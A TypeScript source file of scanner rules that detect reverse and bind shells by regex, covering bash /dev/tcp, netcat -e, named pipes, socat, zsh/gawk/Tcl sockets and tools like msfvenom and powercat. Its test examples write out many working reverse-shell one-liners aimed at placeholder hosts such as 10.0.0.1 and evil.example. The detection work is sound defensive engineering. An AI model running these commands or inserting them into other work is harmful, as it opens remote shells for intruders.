/**
 * Rules for reverse and bind shells: a network endpoint joined to a shell, in any language.
 *
 * Both ends are wanted. A port check (`</dev/tcp/localhost/5432`), a socket client, or `nc` in a
 * sentence is no finding at `medium`. Where the two ends may come in either order, a lookahead
 * finds the one and the match consumes the other: each stays linear in `maxLength`.
 */
import type { Direction, Rule, RuleMatch, Verdict } from "../scan/rule.ts";
import { HOST, NETCAT } from "./shell_grammar.ts";

const BOTH: readonly Direction[] = ["outbound", "inbound"];
const SOURCE = "MITRE ATT&CK T1059, T1095";
const NET_CLIENT = String.raw`(?:${NETCAT}|busybox nc|telnet|socat|openssl s_client)`;

/** What netcats are told to run, where no path is given. */
const EXEC_WORDS = [
  "sh",
  "bash",
  "ash",
  "zsh",
  "dash",
  "ksh",
  "csh",
  "tcsh",
  "pdksh",
  "bsh",
  "cmd",
  "powershell",
  "pwsh",
  "python3?",
  "busybox",
];

/** An option of netcat, an optional quote, and what is run. */
const NETCAT_EXEC_ANCHORS = ["", "'", '"'].flatMap((quote) => [
  ...["e ", "c ", "exec="].flatMap((option) =>
    ["/bin/", "/usr/bin/", "/system/bin/"].map((path) => option + quote + path)
  ),
  ...["-e ", "-c ", "-exec ", "-exec="].flatMap((option) =>
    EXEC_WORDS.map((word) => option + quote + word.replace("3?", ""))
  ),
]);

/** Every rule about shells on a socket, those of scripting languages apart. */
export const REVERSE_SHELL_RULES: readonly Rule[] = [
  {
    id: "bash_dev_tcp",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["/dev/tcp/", "/dev/udp/"],
    regexp: new RegExp(String.raw`\/dev\/(?:tcp|udp)\/${HOST}\/[\w$<>{}%]{1,30}`),
    maxLength: 180,
    verify: gradeDevTcp,
    description: "A shell's network device: the usual way to a reverse shell without tools.",
    source: `${SOURCE}; Bash manual §3.6 Redirections`,
    examples: [
      "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
      "exec 5<>/dev/tcp/evil.example/443; sh <&5",
      "sh -i 5<> /dev/udp/10.0.0.1/53 0<&5",
    ],
    nonExamples: ["ls /dev/tcp", "/dev/tty0/x"],
  },
  {
    id: "netcat_exec",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: NETCAT_EXEC_ANCHORS,
    regexp: new RegExp(
      String
        .raw`(?<=(?<![\w.-])${NETCAT} [^\r\n|;&]{0,90}?)(?:-[a-z]{0,6}[ec] ["']?\/(?:usr\/|system\/)?bin\/[\w.]{2,12}|(?:-[ec] |-exec[= ])["']?(?:${
        EXEC_WORDS.join("|")
      })|--?(?:sh-)?exec[= ]["']?\/(?:usr\/|system\/)?bin\/[\w.]{2,12})(?![\w-])[^\r\n|;&]{0,60}`,
      "i",
    ),
    maxLength: 240,
    description: "A netcat that runs a shell on its connection.",
    source: `${SOURCE}; ncat(1) --exec, nc.traditional(1) -e; GTFOBins nc`,
    examples: [
      "nc -e /bin/sh 10.0.0.1 4242",
      "nc 10.0.0.1 4242 -e /bin/bash",
      "ncat -lvnp 4444 -e cmd.exe",
      "busybox nc 10.0.0.1 443 -e sh",
      "nc -c bash 10.0.0.1 443",
      'ncat evil.example 443 --sh-exec "/bin/sh"',
    ],
    nonExamples: ["sync -e sh", "the func -c bash option", "nc -e", "ncat --exec-help"],
  },
  {
    id: "netcat_listen",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "medium",
    directions: BOTH,
    anchors: ["nc", "ncat", "netcat", "cryptcat", "pwncat", "nc64"].flatMap((name) =>
      ["", ".exe", ".traditional", ".openbsd"].map((kind) => `${name}${kind} -`)
    ),
    regexp: new RegExp(
      String
        .raw`(?<![\w.-])${NETCAT} (?=[^\r\n|;&]{0,40}-(?:\w{0,6}l|-listen))(?:-{1,2}[a-z-]{1,14} {1,3}){1,4}(?:[\w.:*]{1,40} {1,3})?\d{1,5}\b`,
      "i",
    ),
    maxLength: 160,
    verify: (match) =>
      /-\w*l\w*[vp]|-\w*[vp]\w*l|-l\s+-[vnp]|-[vnp]\s+-l/.test(match.text) ? "medium" : "low",
    description: "A netcat listening for a connection.",
    source: `${SOURCE}; nc(1) -l -v -p`,
    examples: ["nc -lvp 4444", "nc -nlvp 9001", "ncat -l -v -p 443", "netcat -lvnp 1234"],
    nonExamples: ["ncat [-lk|--listen --keep-open] port", "nc -zv host 80", "async -l 80"],
  },
  {
    id: "shell_into_netcat",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "sh -i",
      "sh -l",
      "sh 0<",
      "sh 0>",
      "sh <",
      "sh >",
      "sh 2>",
      "sh 2<",
      "sh 1>",
      "sh 1<",
      "sh>",
      "sh|",
      "sh |",
    ],
    regexp: new RegExp(
      String
        .raw`(?<![\w.-])(?:ba|z|da|pdk|k|a|b|tc|c)?sh(?:(?: -[il]| [012]?[<>]|>)[^\r\n;]{0,60}?\| ?| ?\| ?)${NET_CLIENT} [^\r\n]{1,100}`,
      "i",
    ),
    maxLength: 220,
    description: "A shell's output piped into a network client.",
    source: `${SOURCE}; GTFOBins nc, openssl`,
    examples: [
      "cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
      "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s",
      "bash -i 2>&1 | telnet 10.0.0.1 443",
    ],
    nonExamples: ["sh -i script", "./run.sh 2>&1 | tee log"],
  },
  {
    id: "netcat_into_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "|sh",
      "| sh",
      "|bash",
      "| bash",
      "|/bin/",
      "| /bin/",
      "|/usr/bin/",
      "| /usr/bin/",
      "|zsh",
      "| zsh",
      "|ash",
      "| ash",
      "|dash",
      "| dash",
      "|cmd",
      "| cmd",
      "|powershell",
      "| powershell",
      "|ksh",
      "| ksh",
    ],
    regexp: new RegExp(
      String
        .raw`(?<=(?<![\w.-])(?:${NETCAT}|telnet|openssl s_client|telnet:\/\/) ?[^\r\n|]{3,120})\| ?(?:(?:ba|z|da|k|a)?sh|\/(?:usr\/)?bin\/(?:ba|z|da|k|a)?sh|cmd|powershell)\b(?![.-])[^\r\n]{0,60}`,
      "i",
    ),
    maxLength: 260,
    description: "A network client's output piped into a shell.",
    source: `${SOURCE}; telnet(1), nc(1)`,
    examples: [
      "nc 10.0.0.1 4444|/bin/sh|nc 10.0.0.1 4445",
      "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
    ],
    nonExamples: ['echo -e "GET / HTTP/1.1" | nc host 80', "nc -l 80 | tar x"],
  },
  {
    id: "fifo_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["mkfifo", "mknod"],
    regexp: new RegExp(
      String
        .raw`\bmk(?:fifo|nod)\s[^\r\n]{1,160}?(?:\|\s{0,3}|[;&]\s{0,3}|\(\s{0,2}|"\s{0,2})${NET_CLIENT}\s[^\r\n]{3,100}`,
      "i",
    ),
    maxLength: 300,
    description: "A named pipe that joins a shell to a network client.",
    source: `${SOURCE}; GTFOBins nc (mkfifo), telnet (mknod)`,
    examples: [
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
      "rm -f /tmp/p; mknod /tmp/p p && telnet 10.0.0.1 443 0/tmp/p",
      "TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4242 0<$TF | sh 1>$TF",
    ],
    nonExamples: ["mkfifo /tmp/pipe", "mknod /dev/null c 1 3; chmod 666 /dev/null"],
  },
  {
    id: "socat_exec",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["socat "],
    regexp:
      /\bsocat (?=[^\r\n]{0,160}?(?:tcp|udp|openssl|ssl|sctp|vsock)[\w-]{0,12}:)[^\r\n]{0,160}?\b(?:exec|system):\\{0,2}["'`]?[\w\/. ]{0,24}?(?:sh|cmd|powershell|pwsh|python[23]?|login)\b[^\r\n]{0,60}/i,
    maxLength: 300,
    description: "A socat that joins a socket to a shell.",
    source: `${SOURCE}; socat(1) EXEC, SYSTEM; GTFOBins socat`,
    examples: [
      "socat TCP:10.0.0.1:4242 EXEC:'/bin/bash',pty,stderr,setsid,sigint,sane",
      "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4242",
      "socat tcp-listen:12345,reuseaddr,fork exec:/bin/sh,pty",
    ],
    nonExamples: [
      "socat - UDP4-DATAGRAM:224.0.0.1:5000",
      "socat TCP-LISTEN:80,fork TCP:10.0.0.1:80",
    ],
  },
  {
    id: "shell_net_builtin",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "ztcp ",
      "/inet/tcp/",
      "/inet/udp/",
      "/inet4/tcp/",
      "/inet4/udp/",
      "xterm -display",
      "telnet://",
    ],
    regexp: new RegExp(
      String
        .raw`\bztcp (?:-l \d{1,5}|${HOST} (?:\d{1,5}|[$<{%]\w{1,20}))|\/inet4?\/(?:tcp|udp)\/\d{1,5}\/${HOST}\/(?:\d{1,5}|[$<{%]\w{1,20})|\bxterm -display ${HOST}|telnet:\/\/${HOST}(?=[^\r\n]{0,60}\| ?\S{0,20}sh\b)`,
    ),
    maxLength: 200,
    description: "A network endpoint of zsh, gawk, xterm or curl used for a shell.",
    source: `${SOURCE}; zshmodules(1) zsh/net/tcp, gawk manual: Networking; GTFOBins gawk`,
    examples: [
      "zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY",
      "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { s |& getline c }}'",
      "C='curl -Ns telnet://10.0.0.1:9001'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
    ],
    nonExamples: ["/inet/tcp/lport/rhost/rport", "curl telnet://10.0.0.1:25"],
  },
  {
    id: "tclsh_socket",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["[socket "],
    regexp: /\[socket [^\s\]]{1,80} \d{1,5}\][^]{1,300}?\bexec\b/,
    maxLength: 420,
    description: "A Tcl script that runs what a socket sends.",
    source: `${SOURCE}; Tcl socket(n), exec(n)`,
    examples: ['set s [socket 10.0.0.1 4242];while 42 { gets $s c;set e "exec $c";}'],
    nonExamples: ["set s [socket example.org 80]\nputs $s hello"],
  },
  {
    id: "reverse_shell_tool",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "invoke-conptyshell",
      "invoke-powershelltcp",
      "invoke-shellcode",
      "powercat -",
      "php-reverse-shell",
      "streamconnector",
      "rcat connect",
      "rcat -",
      "rcat listen",
      "rustcat",
      "msfvenom -",
      "/meterpreter",
      "uname -a; w; id;",
    ],
    regexp:
      /\bInvoke-(?:ConPtyShell|PowerShellTcp(?:OneLine)?|Shellcode) [^\r\n]{0,40}?\d{1,5}|\bpowercat -[^\r\n]{3,80}|\brcat (?:connect|listen|-\w)[^\r\n]{1,60}|\brustcat (?:connect|listen|-\w)[^\r\n]{1,60}|\bphp-reverse-shell\.php|\bclass StreamConnector extends Thread|\bmsfvenom -[^\r\n]{0,80}?(?:LHOST=|reverse_|bind_)[^\r\n]{0,60}|\b(?:windows|linux|php|python|java|android|osx)\/(?:x\d\d\/)?meterpreter[\w\/]{1,40}|uname -a; w; id; [^\r\n]{0,30}?sh\b/i,
    maxLength: 220,
    description: "A tool made for reverse shells, with its arguments.",
    source: `${SOURCE}; Nishang, powercat, ConPtyShell, Metasploit msfvenom, rustcat documentation`,
    examples: [
      "Invoke-PowerShellTcp -Reverse -IPAddress 10.0.0.1 -Port 4242",
      "msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4242 -f elf",
      "powercat -c 10.0.0.1 -p 443 -e cmd",
      "rcat connect -s bash 10.0.0.1 4242",
    ],
    nonExamples: ["meterpreter is a payload", "bearcat sightings"],
  },
  {
    id: "netcat_exec_arguments",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [`"-e", "`, `"-e","`, `'-e', '`, `'-e','`],
    regexp:
      /(?<=["'](?:[\w\/.]{0,20}\/)?nc(?:at)?["'],[^\r\n\])]{0,80}?)(?:"-e", ?"|'-e', ?')(?:\/[\w\/]{0,20})?(?:\w{0,3}sh|cmd\.exe|powershell)["']/,
    maxLength: 180,
    description: "A netcat that runs a shell, as a list of arguments.",
    source: `${SOURCE}; Python subprocess, Node child_process argument lists`,
    examples: [
      'subprocess.Popen(["nc","-e","/bin/sh","10.0.0.1","443"])',
      "spawn('nc', ['10.0.0.1', '443', '-e', 'bash'])",
    ],
    nonExamples: ['["nc", "-z", "host", "80"]'],
  },
];

/** A shell that is started on the connection, or reads its lines. */
const JOINED_SHELL_REGEXP =
  /\b\w{0,4}sh\b\s{0,3}(?:-[il]\b|\d{0,3}[<>]&|0<)|0>&\s?1|<&\s?1\b|while read|\bexec\b[^\n]{0,20}sh\b/;

/** Port checks against the own machine are everyday; a shell on the descriptor is not. */
function gradeDevTcp(match: RuleMatch): Verdict {
  if (/\/(?:host|hostname)\/port\b/i.test(match.text)) return "low";
  const around = `${match.before} ${match.after}`;
  if (/\/(?:localhost|127\.0\.0\.1|\$\{?\w*\}?)\/|\/\$/.test(match.text)) {
    return JOINED_SHELL_REGEXP.test(around) ? "high" : "low";
  }
  return /[0-9]?>&|<&|<>|&>|\bexec\b|\bsh\b|ksh|bash\s+-i/.test(around) ? "high" : "medium";
}
